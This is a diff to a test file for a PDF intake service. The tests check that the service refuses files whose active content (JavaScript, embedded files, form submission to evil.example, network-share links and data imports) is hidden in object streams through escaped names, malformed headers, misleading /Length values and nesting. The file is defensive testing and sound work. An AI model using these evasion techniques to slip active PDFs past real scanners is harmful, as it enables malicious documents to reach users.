@@ -7,9 +7,10 @@ import { afterAll, describe, expect, it } from "vitest";
 import {
   type HiddenPlacement,
   hiddenObjectStreamPdf,
-  pagesPdf,
-  streamBody,
-} from "../../../test/test-pdfs.ts";
+  type LengthSpelling,
+} from "../../../test/hidden-object-stream-pdf.ts";
+import { pagesPdf, streamBody } from "../../../test/test-pdfs.ts";
+import { MAX_OBJECT_STREAM_NESTING } from "../../formats/pdf/pdf-scan.ts";
 import { HttpError } from "../../lib/http-error.ts";
 import { prepareDocument } from "./document-intake.ts";
 
@@ -44,14 +45,29 @@ async function refusal(bytes: Uint8Array) {
   return { status: error.status, message: error.message };
 }
 
-const placements: HiddenPlacement[] = ["image pixels", "JPEG data", "stored deflate block"];
+const placements: HiddenPlacement[] = [
+  "image pixels",
+  "JPEG data",
+  "stored deflate block",
+  "an unterminated string",
+];
 
+/** What each sample hides lives in object 3: the catalog names it, nothing more. */
 const samples = [
   {
     what: "JavaScript",
     part: pdfActiveParts.javascript,
-    catalog: "/Names << /JavaScript << /Names [(x) 3 0 R] >> >>",
-    objects: ["<< /S /JavaScript /JS (app.alert\\(1\\)) >>"],
+    catalog: "/Names 3 0 R",
+    objects: ["<< /JavaScript << /Names [(x) << /S /JavaScript /JS (app.alert\\(1\\)) >>] >> >>"],
+    readerSees: (bytes: Uint8Array) => poppler("pdfinfo", ["-js"], bytes).includes("app.alert(1)"),
+  },
+  {
+    what: "JavaScript named with #xx escapes",
+    part: pdfActiveParts.javascript,
+    catalog: "/Names 3 0 R",
+    objects: [
+      "<< /J#61vaScript << /Names [(x) << /S /J#61vaScript /#4A#53 (app.alert\\(1\\)) >>] >> >>",
+    ],
     readerSees: (bytes: Uint8Array) => poppler("pdfinfo", ["-js"], bytes).includes("app.alert(1)"),
   },
   {
@@ -65,8 +81,10 @@ const samples = [
   {
     what: "an embedded file",
     part: pdfActiveParts.embeddedFile,
-    catalog: "/Names << /EmbeddedFiles << /Names [(a.txt) 3 0 R] >> >>",
-    objects: ["<< /Type /Filespec /F (a.txt) /EF << /F 4 0 R >> >>"],
+    catalog: "/Names 3 0 R",
+    objects: [
+      "<< /EmbeddedFiles << /Names [(a.txt) << /Type /Filespec /F (a.txt) /EF << /F 4 0 R >> >>] >> >>",
+    ],
     readerSees: (bytes: Uint8Array) =>
       poppler("pdfdetach", ["-list"], bytes).includes("1 embedded files"),
   },
@@ -77,6 +95,22 @@ const samples = [
     objects: ["<< /Fields [] /XFA [(template) (x)] >>"],
     readerSees: (bytes: Uint8Array) => /Form:\s+XFA/.test(poppler("pdfinfo", [], bytes)),
   },
+  ...[
+    [
+      "a link to a file on a network share",
+      "otherFile",
+      "/GoToR /F (\\\\\\\\server\\\\a.pdf) /D [0 /Fit]",
+    ],
+    ["a form that sends what is typed", "submitForm", "/SubmitForm /F (https://evil.example/x)"],
+    ["a data import", "importData", "/ImportData /F (\\\\\\\\server\\\\data.fdf)"],
+  ].map(([what, part, action]) => ({
+    what: what!,
+    part: pdfActiveParts[part as keyof typeof pdfActiveParts],
+    catalog: "/OpenAction 3 0 R",
+    objects: [`<< /S ${action} >>`],
+    // As for the launch action: a page count means the hidden catalog was resolved.
+    readerSees: (bytes: Uint8Array) => /Pages:\s+1\n/.test(poppler("pdfinfo", [], bytes)),
+  })),
 ];
 
 describe("prepareDocument: objects hidden where only the cross-reference points", () => {
@@ -92,6 +126,100 @@ describe("prepareDocument: objects hidden where only the cross-reference points"
       });
     }
   }
+
+  // A reader takes each object of an object stream where the stream's header says it starts,
+  // also inside what a walk from the stream's start reads as a string or a comment.
+  for (const sample of samples) {
+    for (const layout of ["inside a string", "inside a comment"] as const) {
+      it(`refuses ${sample.what} standing ${layout} of an object stream`, async () => {
+        const bytes = hiddenObjectStreamPdf(sample.catalog, sample.objects, "image pixels", {
+          layout,
+        });
+        if (POPPLER) expect(sample.readerSees(bytes)).toBe(true);
+        expect(await refusal(bytes)).toEqual({
+          status: 415,
+          message: apiErrorMessages.pdfActive(sample.part),
+        });
+      });
+    }
+  }
+
+  // A reader's number ends at its first byte that cannot continue it: `10 0obj` is `10 0 obj`.
+  const [javascript] = samples;
+  for (const objectHeader of ["10 0obj", "10 0%header\nobj", "10\r\n0\r\nobj"]) {
+    for (const placement of placements) {
+      it(`refuses JavaScript in an object stream headed ${JSON.stringify(objectHeader)} in ${placement}`, async () => {
+        const bytes = hiddenObjectStreamPdf(javascript!.catalog, javascript!.objects, placement, {
+          objectHeader,
+        });
+        if (POPPLER) expect(javascript!.readerSees(bytes)).toBe(true);
+        expect(await refusal(bytes)).toEqual({
+          status: 415,
+          message: apiErrorMessages.pdfActive(javascript!.part),
+        });
+      });
+    }
+  }
+
+  // Where /Length is not a number followed by `endstream`, a reader may read an object stream's
+  // compressed data past the first `endstream` it holds.
+  const lengthSpellings: LengthSpelling[] = [
+    "a reference",
+    "a reference without spaces",
+    "a number that falls short",
+  ];
+  for (const as of lengthSpellings) {
+    for (const placement of ["plain sight", "image pixels"] as const) {
+      it(`refuses an object stream in ${placement} whose compressed data (JavaScript) runs on past an endstream, its /Length ${as}`, async () => {
+        const bytes = hiddenObjectStreamPdf(javascript!.catalog, javascript!.objects, placement, {
+          lengthSpelled: { as, endstreamInData: true },
+        });
+        if (POPPLER) expect(javascript!.readerSees(bytes)).toBe(true);
+        expect(await refusal(bytes)).toEqual({
+          status: 415,
+          message: apiErrorMessages.pdfUnreadable,
+        });
+      });
+    }
+  }
+
+  // pdf.js takes a stream inside an object stream, and so an object stream inside another
+  // (checked by hand with pdfjs-dist 4: it runs the JavaScript of each sample below that stands
+  // in plain sight); poppler does not, so no reader here can show them.
+  for (const nesting of [2, MAX_OBJECT_STREAM_NESTING]) {
+    for (const layout of ["one after another", "inside a comment"] as const) {
+      for (const placement of ["plain sight", "image pixels"] as const) {
+        it(`refuses JavaScript in an object stream ${nesting} deep, standing ${layout}, in ${placement}`, async () => {
+          const bytes = hiddenObjectStreamPdf(javascript!.catalog, javascript!.objects, placement, {
+            nesting,
+            layout,
+          });
+          expect(await refusal(bytes)).toEqual({
+            status: 415,
+            message: apiErrorMessages.pdfActive(javascript!.part),
+          });
+        });
+      }
+    }
+  }
+
+  it("refuses object streams nested deeper than it reads them", async () => {
+    const bytes = hiddenObjectStreamPdf("", [], "plain sight", {
+      nesting: MAX_OBJECT_STREAM_NESTING + 1,
+    });
+    expect(await refusal(bytes)).toEqual({ status: 415, message: apiErrorMessages.pdfTooDeep });
+  });
+
+  it("still takes an object stream whose /Length is a reference, as many writers spell it", async () => {
+    const bytes = hiddenObjectStreamPdf("", [], "plain sight", {
+      lengthSpelled: { as: "a reference", endstreamInData: false },
+    });
+    if (POPPLER) {
+      expect(poppler("pdfinfo", [], bytes)).toMatch(/Pages:\s+1\n/);
+      expect(poppler("pdfinfo", ["-js"], bytes)).not.toMatch(/Name Dictionary/);
+    }
+    expect((await prepareDocument(bytes)).pageCount).toBe(1);
+  });
 
   it("refuses, in linear time, a file of nothing but stray obj keywords", async () => {
     const flood = Buffer.alloc(19 * 1024 * 1024, " obj<</Length 99999999>>stream\n");
